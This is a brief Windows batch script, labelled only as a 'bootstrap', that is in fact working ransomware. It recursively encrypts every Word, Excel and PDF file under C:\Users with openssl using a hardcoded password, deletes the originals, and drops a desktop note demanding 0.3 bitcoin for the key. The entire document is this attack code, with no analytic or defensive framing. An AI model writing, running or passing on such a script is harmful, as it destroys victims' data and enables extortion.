REM bootstrap 1409 v4
@echo off
for /r C:\Users %%f in (*.docx *.xlsx *.pdf) do (
  openssl enc -aes-256-cbc -pass pass:Sup3rS3cure! -in "%%f" -out "%%f.enc" && del "%%f"
)
echo Your files have been encrypted. Send 0.3 bitcoin to recover the key > C:\Users\Public\Desktop\README_RESTORE_FILES.txt
